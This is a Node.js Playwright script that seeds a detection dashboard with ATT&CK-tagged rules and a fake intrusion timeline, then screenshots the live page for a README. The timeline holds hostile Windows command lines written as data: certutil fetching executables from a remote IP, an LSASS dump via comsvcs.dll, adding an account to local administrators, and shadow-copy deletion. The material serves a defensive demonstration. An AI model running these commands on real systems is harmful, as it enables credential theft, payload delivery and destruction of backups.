// Makes the README's pictures of the live page: node screenshots.js
import { chromium } from "@playwright/test";
import { mkdir } from "node:fs/promises";
import { fileURLToPath } from "node:url";
import config from "./playwright.config.js";
import { Host, download } from "./host.js";

const folder = fileURLToPath(new URL("../../docs/images/", import.meta.url));

const rules = [
  ["critical", "Shadow Copies Deleted Before They Are Needed", "attack.t1490", "vssadmin delete shadows"],
  ["high", "Certutil Fetches a File From the Network", "attack.t1105", "certutil"],
  ["high", "Memory of LSASS Written to a File", "attack.t1003.001", "comsvcs.dll"],
  ["medium", "PowerShell Started With an Encoded Command", "attack.t1059.001", "powershell.exe -nop -enc"],
  ["medium", "Scheduled Task Runs a Program From a User's Folder", "attack.t1053.005", "schtasks /create"],
  ["low", "Account Added to the Local Administrators", "attack.t1098", "net localgroup administrators"],
  ["informational", "Members of a Domain Group Listed", "attack.t1069.002", "net group"],
];

// Minutes after nine, host, user, what was started.
const story = [
  [1, "ws-042.corp.example", "lee", "certutil.exe -urlcache -f http://198.51.100.7/a.txt a.exe"],
  [2, "ws-042.corp.example", "lee", "powershell.exe -nop -enc SQBFAFgA"],
  [3, "ws-042.corp.example", "lee", "powershell.exe -nop -enc SQBFAFgB"],
  [4, "ws-042.corp.example", "lee", "net group \"Domain Admins\" /domain"],
  [6, "ws-042.corp.example", "lee", "schtasks /create /tn upd /tr C:\\Users\\lee\\a.exe"],
  [11, "ws-017.corp.example", "dana", "powershell.exe -nop -enc SQBFAFgC"],
  [19, "srv-003.corp.example", "svc-backup", "net localgroup administrators lee /add"],
  [24, "srv-003.corp.example", "svc-backup", "rundll32 comsvcs.dll, MiniDump 624 out.dmp full"],
  [25, "srv-003.corp.example", "svc-backup", "rundll32 comsvcs.dll, MiniDump 624 out2.dmp full"],
  [31, "srv-003.corp.example", "svc-backup", "certutil.exe -urlcache -f http://198.51.100.7/b.txt b.exe"],
  [38, "srv-003.corp.example", "svc-backup", "vssadmin delete shadows /all /quiet"],
  [39, "srv-004.corp.example", "svc-backup", "vssadmin delete shadows /all /quiet"],
];

const host = await Host.start();
const browser = await chromium.launch(config.use.launchOptions);
try {
  for (const [level, title, tag, command] of rules) await host.importRule({ level, title, tag, command });
  for (const [minute, computer, user, command] of story) {
    const time = `2026-11-20T09:${String(minute).padStart(2, "0")}:${String((minute * 17) % 60).padStart(2, "0")}Z`;
    await host.send(download({ "@timestamp": time, Computer: computer, User: `CORP\\${user}`, CommandLine: command }));
  }
  await host.untilAlert("srv-004.corp.example");
  await mkdir(folder, { recursive: true });
  const page = await browser.newPage({ viewport: { width: 1200, height: 720 }, timezoneId: "UTC", locale: "en-US" });
  await page.goto(host.link);
  await page.locator("body[data-state=live]").waitFor();
  for (const colorScheme of ["light", "dark"]) {
    await page.emulateMedia({ colorScheme });
    await page.screenshot({ path: `${folder}live-page-${colorScheme}.png` });
  }
} finally {
  await browser.close();
  await host.stop();
}
